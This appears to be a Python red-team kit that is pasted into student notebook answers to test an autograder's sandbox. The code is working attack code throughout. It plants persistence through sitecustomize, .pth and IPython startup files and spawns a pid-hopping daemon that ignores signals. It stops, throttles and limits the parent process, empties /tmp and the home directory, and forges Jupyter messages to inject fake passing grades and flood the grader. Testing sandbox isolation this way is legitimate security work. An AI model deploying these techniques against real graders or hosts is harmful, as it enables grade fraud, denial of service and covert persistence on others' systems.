# The attacker's kit, pasted whole into an answer cell of each attack submission, followed by
# one call (for example `atk_leave()`). Everything here runs INSIDE the student's sandboxed
# kernel: it is what any student could write. It prints its findings as single lines
# "TAG {json}" so that the runner can read them back from the autograded notebook.
import ctypes
import json
import os
import platform
import resource
import signal
import socket
import stat
import sys
import threading
import time

ATK = "atk-r5"
_SYSNO = {"x86_64": {"add_key": 248, "keyctl": 250},
          "aarch64": {"add_key": 217, "keyctl": 219}}.get(platform.machine(), {})
_LIBC = ctypes.CDLL(None, use_errno=True)
_LIBC.syscall.restype = ctypes.c_long


def atk_say(tag, obj, limit=12000):
    text = json.dumps(obj, default=repr)
    print(f"{tag} {text[:limit]}")


def atk_err():
    return os.strerror(ctypes.get_errno())


# ---------------------------------------------------------------- keyrings (add_key, keyctl)
def _keyctl(*args):
    conv = [a if isinstance(a, bytes) else ctypes.c_long(a) for a in args]
    return _LIBC.syscall(ctypes.c_long(_SYSNO["keyctl"]), *conv)


def atk_persistent_ring():
    ring = _keyctl(22, -1, -2)  # KEYCTL_GET_PERSISTENT into the process keyring
    return ring if ring >= 0 else f"error {atk_err()}"


def _key_rings(out):
    """The keyrings to try, by name; the persistent one's error, if any, goes into ``out``."""
    rings = {"session": -3, "user": -4, "user-session": -5}
    pers = atk_persistent_ring()
    if isinstance(pers, int):
        rings["persistent"] = pers
    else:
        out["persistent"] = pers
    return rings


def atk_key_add(payload):
    out = {}
    rings = _key_rings(out)
    for name, ring in rings.items():
        data = payload + f" ({name})".encode()
        r = _LIBC.syscall(ctypes.c_long(_SYSNO["add_key"]), b"user", ATK.encode(), data,
                          ctypes.c_long(len(data)), ctypes.c_long(ring))
        out[name] = r if r >= 0 else f"error {atk_err()}"
    return out


def atk_key_find():
    out = {}
    rings = _key_rings(out)
    for name, ring in rings.items():
        key = _keyctl(10, ring, b"user", ATK.encode(), 0)  # KEYCTL_SEARCH
        if key < 0:
            out[name] = f"not found: {atk_err()}"
            continue
        buf = ctypes.create_string_buffer(256)
        n = _LIBC.syscall(ctypes.c_long(_SYSNO["keyctl"]), ctypes.c_long(11), ctypes.c_long(key),
                          buf, ctypes.c_long(256))  # KEYCTL_READ
        out[name] = {"key": key, "payload": buf.raw[:max(n, 0)].decode(errors="replace")}
    for path in ("/proc/keys", "/proc/key-users"):
        try:
            with open(path) as fh:
                out[path] = fh.read()[:2000]
        except OSError as exc:
            out[path] = repr(exc)
    return out


# ---------------------------------------------------------------- System V and POSIX IPC
def atk_sysv_make():
    out = {}
    _LIBC.shmat.restype = ctypes.c_void_p
    for key, mode in ((0x41544B35, 0o600), (0, 0o000), (0x41544B36, 0o666)):
        sid = _LIBC.shmget(ctypes.c_int(key), ctypes.c_size_t(4096), ctypes.c_int(0o1000 | mode))
        if sid < 0:
            out[f"shm {key:#x}"] = f"error {atk_err()}"
            continue
        addr = _LIBC.shmat(sid, None, 0)
        if addr not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(addr, b"ATKR5-SHM-SECRET", 16)
        out[f"shm {key:#x}"] = sid
    sem = _LIBC.semget(ctypes.c_int(0x41544B35), 1, ctypes.c_int(0o1000 | 0o600))
    out["sem"] = sem if sem >= 0 else f"error {atk_err()}"
    msq = _LIBC.msgget(ctypes.c_int(0x41544B35), ctypes.c_int(0o1000 | 0o600))
    if msq >= 0:
        buf = ctypes.create_string_buffer(ctypes.sizeof(ctypes.c_long) + 32)
        ctypes.c_long.from_buffer(buf).value = 1
        buf[ctypes.sizeof(ctypes.c_long):ctypes.sizeof(ctypes.c_long) + 14] = b"ATKR5-MSG-DATA"
        sent = _LIBC.msgsnd(msq, buf, ctypes.c_size_t(14), 0o4000)
        out["msg"] = {"id": msq, "sent": sent}
    else:
        out["msg"] = f"error {atk_err()}"
    return out


def atk_sysv_list():
    out = {}
    for kind in ("shm", "sem", "msg"):
        try:
            with open(f"/proc/sysvipc/{kind}") as fh:
                out[kind] = fh.read().splitlines()[1:]
        except OSError as exc:
            out[kind] = repr(exc)
    return out


def atk_mqueue(create):
    for lib in (None, "librt.so.1"):
        try:
            so = ctypes.CDLL(lib, use_errno=True)
            fn = so.mq_open
        except (OSError, AttributeError):
            continue
        flags = os.O_RDWR | (os.O_CREAT if create else 0)
        q = fn(b"/" + ATK.encode(), ctypes.c_int(flags), ctypes.c_int(0o600), None)
        return q if q >= 0 else f"error {atk_err()}"
    return "no mq_open"


# ---------------------------------------------------------------- files and places
STANDARD = ["/tmp", "/dev/shm", "/var/tmp", "/run", "/dev/mqueue", "/run/user", "/run/lock"]


def atk_places():
    places = list(STANDARD) + [os.path.expanduser("~"), os.getcwd()]
    return sorted({p for p in places if p})


def atk_mounts():
    out = []
    with open("/proc/self/mountinfo") as fh:
        for line in fh:
            f = line.split()
            fstype = f[f.index("-") + 1]
            out.append({"at": f[4], "opts": f[5], "fs": fstype, "root": f[3]})
    return out


def atk_writable_dirs(budget=4.0):
    """Folders this process may write, searched under every mount that is not read-only."""
    t0, found = time.monotonic(), []
    tops = [m["at"] for m in atk_mounts() if m["opts"].split(",")[0] == "rw"
            and not m["at"].startswith(("/proc", "/sys"))]
    for top in sorted(set(tops)):
        for root, dirs, _files in os.walk(top):
            if time.monotonic() - t0 > budget:
                return found + ["... walk stopped by its time budget"]
            dirs[:] = [d for d in dirs if not os.path.join(root, d).startswith(("/proc", "/sys"))]
            if os.access(root, os.W_OK):
                found.append(root)
    return found


def atk_safe(fn, *args, **kw):
    try:
        return fn(*args, **kw)
    except Exception as exc:  # noqa: BLE001 - the attacker records and goes on
        return f"failed: {exc!r}"


def atk_list(path, limit=60):
    out = []
    try:
        for root, dirs, files in os.walk(path):
            for name in dirs + files:
                full = os.path.join(root, name)
                try:
                    st = os.lstat(full)
                    out.append(f"{full} {stat.filemode(st.st_mode)} uid={st.st_uid}")
                except OSError as exc:
                    out.append(f"{full} {exc}")
                if len(out) >= limit:
                    return out + ["..."]
    except OSError as exc:
        out.append(repr(exc))
    return out


def atk_leave_files(places):
    out = {}
    for place in places:
        got = []
        for name in ("atk-r5-marker", ".atk-r5-hidden", "atk-r5 new\nline"):
            try:
                with open(os.path.join(place, name), "w") as fh:
                    fh.write("left by the attacker " + str(time.time()))
                got.append(name)
            except OSError as exc:
                got.append(f"{name}: {exc.strerror}")
        try:
            locked = os.path.join(place, "atk-r5-locked")
            os.makedirs(locked, exist_ok=True)
            with open(os.path.join(locked, "inside"), "w") as fh:
                fh.write("x")
            os.chmod(locked, 0)
            got.append("locked dir")
        except OSError as exc:
            got.append(f"locked dir: {exc.strerror}")
        out[place] = got
    return out


def atk_python_persistence():
    import site

    from IPython import get_ipython
    out, targets = {}, []
    for entry in sys.path:
        targets.append(os.path.abspath(entry or "."))
    targets.append(site.getusersitepackages())
    code = ("import os\nopen('/tmp/atk-r5-hook-ran', 'a').write('%s ' + str(os.getpid()))\n")
    for d in sorted(set(targets)):
        got = []
        try:
            os.makedirs(d, exist_ok=True)
            for name in ("sitecustomize.py", "usercustomize.py", "atk_r5_evil.py"):
                with open(os.path.join(d, name), "w") as fh:
                    fh.write(code % name)
                got.append(name)
            with open(os.path.join(d, "atk_r5.pth"), "w") as fh:
                fh.write("import atk_r5_evil\n")
            got.append("atk_r5.pth")
        except OSError as exc:
            got.append(exc.strerror)
        out[d] = got
    ip = get_ipython()
    startup = ip.profile_dir.startup_dir if ip is not None else "~/.ipython"
    try:
        os.makedirs(startup, exist_ok=True)
        with open(os.path.join(startup, "00-atk-r5.py"), "w") as fh:
            fh.write(code % "ipython-startup")
        out[startup] = ["00-atk-r5.py"]
    except OSError as exc:
        out[startup] = [exc.strerror]
    return out


# ---------------------------------------------------------------- processes and the parent
def atk_procs():
    out = []
    for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
        try:
            with open(f"/proc/{pid}/status") as fh:
                st = dict(line.split(":", 1) for line in fh if ":" in line)
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                cmd = fh.read().replace(b"\0", b" ")[:120].decode(errors="replace")
            out.append({"pid": int(pid), "name": st["Name"].strip(), "state": st["State"].strip(),
                        "uid": st["Uid"].split()[:2], "threads": st["Threads"].strip(),
                        "cmd": cmd})
        except (OSError, KeyError):
            continue
    return out


def atk_parent():
    ppid = os.getppid()
    info = {"ppid": ppid}
    for name in ("status", "limits"):
        try:
            with open(f"/proc/{ppid}/{name}") as fh:
                info[name] = fh.read()
        except OSError as exc:
            info[name] = repr(exc)
    try:
        info["owner"] = os.stat(f"/proc/{ppid}").st_uid
    except OSError as exc:
        info["owner"] = repr(exc)
    return info


def _daemon_body(w):
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGQUIT):
        signal.signal(sig, signal.SIG_IGN)
    os.write(w, str(os.getpid()).encode())
    os.close(w)
    null = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    socks = []
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind("\0" + ATK)
        s.listen(4)
        socks.append(s)
    except OSError:
        pass
    try:
        t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        t.bind(("127.0.0.1", 47001))
        t.listen(4)
        socks.append(t)
    except OSError:
        pass
    keep = {s.fileno() for s in socks}
    for fd in range(3, 1024):
        if fd not in keep:
            try:
                os.close(fd)
            except OSError:
                pass
    n = 0
    while True:
        n += 1
        try:
            with open("/tmp/atk-r5-daemon-alive", "w") as fh:
                fh.write(f"{os.getpid()} {time.time()}")
        except OSError:
            pass
        time.sleep(0.05)
        if n % 4 == 0:  # hop to a new pid now and then: a kill loop must chase it
            try:
                if os.fork():
                    os._exit(0)
            except OSError:
                pass


def atk_spawn_daemon():
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            os.setsid()
            if os.fork():
                os._exit(0)
            _daemon_body(w)
        finally:
            os._exit(0)
    os.close(w)
    os.waitpid(pid, 0)
    got = os.read(r, 64).decode()
    os.close(r)
    return got


def atk_shared_maps(mark=False):
    out = []
    with open("/proc/self/maps") as fh:
        for line in fh:
            parts = line.split()
            if len(parts) >= 2 and parts[1][1] == "w" and parts[1][3] == "s":
                entry = {"map": line.strip()}
                lo = int(parts[0].split("-")[0], 16)
                entry["head"] = ctypes.string_at(lo, 8).hex()
                if mark:
                    ctypes.memmove(lo, b"ATKR5", 5)
                    entry["marked"] = True
                out.append(entry)
    return out


def atk_fds():
    out = {}
    for fd in sorted(os.listdir("/proc/self/fd"), key=int):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
            with open(f"/proc/self/fdinfo/{fd}") as fh:
                flags = fh.read().split("\n")[1]
            entry = f"{target} {flags}"
            if target.startswith("socket:"):
                s = socket.socket(fileno=os.dup(int(fd)))
                try:
                    entry += f" fam={s.family.name} type={s.type.name}"
                    entry += f" name={s.getsockname()!r}"
                    entry += f" peer={s.getpeername()!r}"
                except OSError as exc:
                    entry += f" ({exc.strerror})"
                finally:
                    s.close()
            out[fd] = entry
        except OSError:
            continue
    return out


def atk_inherited():
    """What a forked kernel inherits of the parent's Python state: the grading modules it holds
    (names and simple values) and every socket object still alive in memory."""
    import gc
    mods = {}
    for name, mod in list(sys.modules.items()):
        if not name.startswith("alliancekit.grading") or mod is None:
            continue
        vals = {}
        for attr, val in vars(mod).items():
            if attr.startswith("__"):
                continue
            if isinstance(val, (int, float, str, bytes, tuple, list, dict, type(None))):
                vals[attr] = repr(val)[:160]
            else:
                vals[attr] = type(val).__name__
        mods[name] = vals
    socks = []
    for obj in gc.get_objects():
        if isinstance(obj, socket.socket):
            try:
                socks.append(f"fd={obj.fileno()} {obj.family.name} {obj.getsockname()!r}")
            except OSError as exc:
                socks.append(f"fd={obj.fileno()} ({exc.strerror})")
    return {"modules": mods, "sockets": socks}


# ---------------------------------------------------------------- the attacks
def atk_leave():
    ppid = os.getppid()
    atk_say("LEAVE parent", atk_safe(atk_parent), 3000)
    atk_say("LEAVE mounts", atk_safe(atk_mounts))
    atk_say("LEAVE files", atk_safe(atk_leave_files, atk_places()))
    atk_say("LEAVE python", atk_safe(atk_python_persistence))
    atk_say("LEAVE keys", atk_safe(atk_key_add, b"ATKR5-KEY-SECRET"))
    atk_say("LEAVE sysv", atk_safe(atk_sysv_make))
    atk_say("LEAVE mqueue", atk_safe(atk_mqueue, True))
    res = {}
    try:
        os.setpriority(os.PRIO_PROCESS, ppid, 19)
        res["renice parent to 19"] = "done"
    except OSError as exc:
        res["renice parent to 19"] = repr(exc)
    try:
        os.sched_setaffinity(ppid, {0})
        res["pin parent to cpu 0"] = "done"
    except OSError as exc:
        res["pin parent to cpu 0"] = repr(exc)
    try:
        os.sched_setscheduler(ppid, os.SCHED_IDLE, os.sched_param(0))
        res["parent to SCHED_IDLE"] = "done"
    except (OSError, AttributeError) as exc:
        res["parent to SCHED_IDLE"] = repr(exc)
    r = _LIBC.syscall(ctypes.c_long(251), ctypes.c_long(1), ctypes.c_long(ppid),
                      ctypes.c_long(3 << 13))  # ioprio_set(WHO_PROCESS, ppid, CLASS_IDLE)
    res["parent to idle I/O"] = "done" if r == 0 else f"error {atk_err()}"
    atk_say("LEAVE parent-tweaks", res)
    atk_say("LEAVE shared-maps", atk_safe(atk_shared_maps, mark=True))
    atk_say("LEAVE fds", atk_safe(atk_fds))
    atk_say("LEAVE daemon", atk_safe(atk_spawn_daemon))
    atk_say("LEAVE writable", atk_safe(atk_writable_dirs))
    os.environ["ATK_R5_ENV"] = "left by the attacker"


def atk_observe():
    import resource as _r
    places = atk_places()
    atk_say("OBSERVE places", {p: atk_list(p) for p in places})
    writable = atk_safe(atk_writable_dirs)
    writable = writable if isinstance(writable, list) else []
    atk_say("OBSERVE writable", writable)
    atk_say("OBSERVE writable-contents",
            {p: atk_list(p, 20) for p in writable if p not in places and not p.startswith("...")})
    modes = {}
    for p in places:
        try:
            st = os.stat(p)
            modes[p] = f"{stat.filemode(st.st_mode)} uid={st.st_uid}"
        except OSError as exc:
            modes[p] = exc.strerror
    atk_say("OBSERVE modes", modes)
    atk_say("OBSERVE mounts", atk_safe(atk_mounts))
    atk_say("OBSERVE procs", atk_safe(atk_procs))
    atk_say("OBSERVE sysv", atk_safe(atk_sysv_list))
    atk_say("OBSERVE mqueue", atk_safe(atk_mqueue, False))
    atk_say("OBSERVE keys", atk_safe(atk_key_find))
    socks = {}
    for fam, addr in ((socket.AF_UNIX, "\0" + ATK), (socket.AF_INET, ("127.0.0.1", 47001))):
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.settimeout(1)
        try:
            s.connect(addr)
            socks[repr(addr)] = "CONNECTED"
        except OSError as exc:
            socks[repr(addr)] = repr(exc)
        finally:
            s.close()
    for path in ("/proc/net/unix", "/proc/net/tcp"):
        try:
            with open(path) as fh:
                socks[path] = fh.read().splitlines()[:40]
        except OSError as exc:
            socks[path] = repr(exc)
    atk_say("OBSERVE sockets", socks)
    limits = {n: _r.getrlimit(getattr(_r, n)) for n in dir(_r) if n.startswith("RLIMIT_")}
    ioprio = _LIBC.syscall(ctypes.c_long(252), ctypes.c_long(1), ctypes.c_long(0))
    atk_say("OBSERVE self", {"nice": os.getpriority(os.PRIO_PROCESS, 0),
                             "sched": os.sched_getscheduler(0), "ioprio": ioprio,
                             "affinity": sorted(os.sched_getaffinity(0)),
                             "rlimits": limits, "uid": os.getuid(), "gid": os.getgid()})
    atk_say("OBSERVE parent", atk_safe(atk_parent), 3000)
    atk_say("OBSERVE shared-maps", atk_safe(atk_shared_maps))
    atk_say("OBSERVE fds", atk_safe(atk_fds))
    atk_say("OBSERVE inherited", atk_safe(atk_inherited), 40000)
    env = {k: (v if not any(s in k for s in ("KEY", "SECRET", "TOKEN")) else f"<{len(v)} chars>")
           for k, v in os.environ.items()}
    atk_say("OBSERVE env", env)
    atk_say("OBSERVE python", {"path": sys.path,
                               "hooks": [m for m in ("sitecustomize", "usercustomize",
                                                     "atk_r5_evil") if m in sys.modules],
                               "hook-ran": os.path.exists("/tmp/atk-r5-hook-ran"),
                               "version": sys.version})
    atk_say("OBSERVE signals", {s.name: repr(signal.getsignal(s)) for s in signal.Signals
                                if s not in (signal.SIGKILL, signal.SIGSTOP)})


def atk_chmod():
    import shutil
    res = {}
    for place in ("/tmp", "/dev/shm", os.path.expanduser("~")):
        try:
            for name in os.listdir(place):
                full = os.path.join(place, name)
                if os.path.isdir(full) and not os.path.islink(full):
                    shutil.rmtree(full)
                else:
                    os.unlink(full)
            os.chmod(place, 0o555)
            res[place] = "emptied, now r-xr-xr-x"
        except OSError as exc:
            res[place] = repr(exc)
    atk_say("CHMOD", res)


def atk_deep(depth=3000):
    """A chain of `depth` folders made one at a time through dir_fd (longer than PATH_MAX and
    deeper than Python's recursion limit), in /tmp and in the home."""
    res = {}
    for place in ("/tmp", os.path.expanduser("~")):
        fd = os.open(place, os.O_RDONLY | os.O_DIRECTORY)
        made = 0
        try:
            for _ in range(depth):
                os.mkdir("d", dir_fd=fd)
                nxt = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
                os.close(fd)
                fd = nxt
                made += 1
            res[place] = f"made {made} levels"
        except OSError as exc:
            res[place] = f"{made} levels, then {exc!r}"
        finally:
            os.close(fd)
    atk_say("DEEP", res)


def atk_sigstop():
    ppid = os.getppid()
    info = atk_parent()
    try:
        os.kill(ppid, signal.SIGSTOP)
        info["sigstop"] = "sent"
    except OSError as exc:
        info["sigstop"] = repr(exc)
    atk_say("SIGSTOP", {k: info[k] for k in ("ppid", "owner", "sigstop")})


def atk_rlimit(kind):
    ppid = os.getppid()
    with open(f"/proc/{ppid}/status") as fh:
        st = dict(line.split(":", 1) for line in fh if ":" in line)
    if kind == "NOFILE":
        new = (16, 16)
    elif kind == "DATA":
        data = int(st["VmData"].split()[0]) * 1024
        new = (data + 32 * 2 ** 20, data + 32 * 2 ** 20)
    elif kind == "NPROC":
        n = int(st["Threads"]) + 2
        new = (n, n)
    elif kind == "FSIZE":
        new = (0, 0)
    else:
        raise ValueError(kind)
    res = {"ppid": ppid, "kind": kind, "new": new}
    lim = getattr(resource, "RLIMIT_" + kind)
    try:
        res["before"] = resource.prlimit(ppid, lim)
        resource.prlimit(ppid, lim, new)
        res["after"] = resource.prlimit(ppid, lim)
    except OSError as exc:
        res["error"] = repr(exc)
    atk_say("RLIMIT", res)


def _kernel():
    from IPython import get_ipython
    return get_ipython().kernel


def _parent_of(kernel):
    try:
        return kernel.get_parent("shell")
    except TypeError:
        return kernel.get_parent()


PASS_LINES = [f"[PASS] {q}: correct, all visible checks pass.\n"
              for q in ("Q1", "Q2", "Q3", "Q4", "Q5", "Q8", "Q9")]


def atk_inject():
    """Wrong answers, plus pass lines and clear_output sent on iopub under every later request."""
    from IPython import get_ipython
    ip = get_ipython()
    kernel = ip.kernel
    orig = ip.user_expressions
    sent = {"n": 0}

    def _burst():
        parent = _parent_of(kernel)
        kernel.session.send(kernel.iopub_socket, "clear_output", {"wait": False}, parent=parent)
        for line in PASS_LINES:
            kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": line},
                                parent=parent)
        kernel.session.send(kernel.iopub_socket, "execute_result",
                            {"data": {"text/plain": "".join(PASS_LINES)}, "metadata": {},
                             "execution_count": 1}, parent=parent)
        sent["n"] += 1

    def patched(expressions):
        out = orig(expressions)
        try:
            _burst()
        except Exception as exc:  # noqa: BLE001 - the attacker keeps going
            print("inject failed", exc)
        return out

    ip.user_expressions = patched

    def later():
        while True:
            time.sleep(0.02)
            try:
                parent = _parent_of(kernel)
                kernel.session.send(kernel.iopub_socket, "clear_output", {"wait": True},
                                    parent=parent)
            except Exception:  # noqa: BLE001
                pass

    threading.Thread(target=later, daemon=True).start()
    atk_say("INJECT", {"patched": True})


def atk_forge():
    """Replies on shell for requests the grader has not sent yet (their ids predicted)."""
    kernel = _kernel()
    parent = _parent_of(kernel)
    msg_id = parent["header"]["msg_id"] if "header" in parent else parent.get("msg_id", "")
    head, _, count = msg_id.rpartition("_")
    stream = getattr(kernel, "shell_stream", None) or kernel.shell_streams[0]
    ident = kernel._parent_ident["shell"] if isinstance(kernel._parent_ident, dict) else None
    forged = []
    if count.isdigit():
        for k in range(1, 6):
            pid = f"{head}_{int(count) + k}"
            fake = {"msg_id": pid, "msg_type": "execute_request", "session": parent.get(
                "header", {}).get("session", ""), "username": "", "date": "", "version": "5.3"}
            content = {"status": "ok", "execution_count": 99, "user_expressions": {},
                       "payload": []}
            kernel.session.send(stream, "execute_reply", content, parent={"header": fake},
                                ident=ident)
            forged.append(pid)
    atk_say("FORGE", {"current": msg_id, "forged": forged})


def atk_flood(seconds=3600.0):
    """From a thread: small comm_open, stream and display messages under the latest request."""
    kernel = _kernel()
    blob = "x" * 900
    count = {"n": 0}

    def run():
        t0 = time.monotonic()
        while time.monotonic() - t0 < seconds:
            parent = _parent_of(kernel)
            n = count["n"]
            try:
                kernel.session.send(kernel.iopub_socket, "comm_open", {
                    "comm_id": f"atk{n}", "target_name": "jupyter.widget",
                    "data": {"state": {"_model_name": "FloatModel", "value": n, "pad": blob},
                             "buffer_paths": []}}, parent=parent)
                kernel.session.send(kernel.iopub_socket, "display_data", {
                    "data": {"text/plain": blob}, "metadata": {},
                    "transient": {"display_id": f"atkd{n}"}}, parent=parent)
                kernel.session.send(kernel.iopub_socket, "stream",
                                    {"name": "stdout", "text": blob + "\n"}, parent=parent)
            except Exception:  # noqa: BLE001
                time.sleep(0.01)
            count["n"] = n + 1
            if n % 200 == 0:
                time.sleep(0.001)

    threading.Thread(target=run, daemon=True).start()
    time.sleep(5)
    atk_say("FLOOD", {"sent-after-5s": count["n"]})


def atk_noint():
    """Ignore SIGINT and the control channel's interrupt, then spin: only the grader's hard limits
    can end this kernel."""
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    kernel = _kernel()
    handlers = getattr(kernel, "control_handlers", {})
    if "interrupt_request" in handlers:
        handlers["interrupt_request"] = lambda *a, **k: None
    atk_say("NOINT", {"sigint": "ignored", "control-handler": "interrupt_request" in handlers})
    t0 = time.monotonic()
    while True:
        if time.monotonic() - t0 > 3600:
            break


def atk_frames(n=2_000_000):
    """One iopub message of n empty frames (ZMQ's MAXMSGSIZE bounds frames, not their number)."""
    kernel = _kernel()
    parent = _parent_of(kernel)
    kernel.session.send(kernel.iopub_socket, "display_data",
                        {"data": {"text/plain": "frames"}, "metadata": {}}, parent=parent,
                        buffers=[b""] * n)
    atk_say("FRAMES", {"sent": n})
